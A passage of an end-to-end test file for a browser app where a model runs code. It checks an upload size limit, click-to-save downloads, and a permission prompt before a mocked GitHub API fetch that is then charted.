    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);

    await panel
      .getByLabel("Sales CSV")
      .setInputFiles({ name: "huge.csv", mimeType: "text/csv", buffer: Buffer.alloc(10 * 1024 * 1024 + 1, 65) });
    await mock.waitForRequests(3, 15_000);
    expect(modelHeard(2)).toMatch(
      /failed huge\.csv the file “huge\.csv” is 10\.0 MB; files up to 10 MB can be handed to code/,
    );
  });

  it("download offers a Save button with name and size; nothing is saved without the click", async () => {
    mock.enqueue(
      codeTurn(
        `const offered = await download("report.csv", "month,sales\\nJan,12\\n")\nconsole.log("offered", offered.name, offered.size)\n`,
        "Here is your file.",
      ),
    );
    mock.enqueue({ chunks: ["Saved?"] });
    const downloads: string[] = [];
    page.on("download", (download) => void downloads.push(download.suggestedFilename()));
    await send(page, "Export it");
    const offer = page.getByRole("group", { name: "Offered file" });
    await offer.getByRole("button", { name: "Save" }).waitFor({ timeout: 15_000 });
    await expect.poll(() => statusText(page), { timeout: 15_000 }).toMatch(/^Done/);
    expect(await offer.textContent()).toMatch(/report\.csv\s*19 bytes/);
    expect(modelHeard(1)).toContain("offered report.csv 19");
    expect(downloads).toEqual([]);

    const [download] = await Promise.all([
      page.waitForEvent("download"),
      offer.getByRole("button", { name: "Save" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("report.csv");
    const saved = await import("node:fs/promises").then(async (fs) => fs.readFile(await download.path(), "utf8"));
    expect(saved).toBe("month,sales\nJan,12\n");
  });
});

describe("the demo model reaches outside too", () => {
  it("fetches from an API (served here), asks first, charts the answer and explains it", async () => {
    // Back to the offline demo model; the API it calls is answered by this test.
    await page.getByRole("button", { name: "Settings", exact: true }).click();
    await page.getByLabel("Offline demo model").check();
    await page.getByRole("button", { name: "Save" }).click();
    const served: string[] = [];
    await context.route("https://api.github.com/**", (route) => {
      served.push(route.request().url());
      return route.fulfill({
        status: 200,
        headers: { "access-control-allow-origin": "*", "content-type": "application/json" },
        body: JSON.stringify({ JavaScript: 4_300_000, TypeScript: 120_000, HTML: 60_000 }),
      });
    });
    await send(page, "Fetch data from an API and chart it");
    await answer("Allow once");
    await expect.poll(() => statusText(page), { timeout: 20_000 }).toMatch(/^Done/);
    expect(served).toEqual(["https://api.github.com/repos/facebook/react/languages"]);
    await expect
      .poll(() => page.getByLabel("Mounted UI").locator(".recharts-bar-rectangle").count(), { timeout: 10_000 })
      .toBe(3);
    expect(await page.getByRole("article", { name: "Reply" }).last().textContent()).toContain(
      "JavaScript leads with about 4199 KB",
    );
  });
});
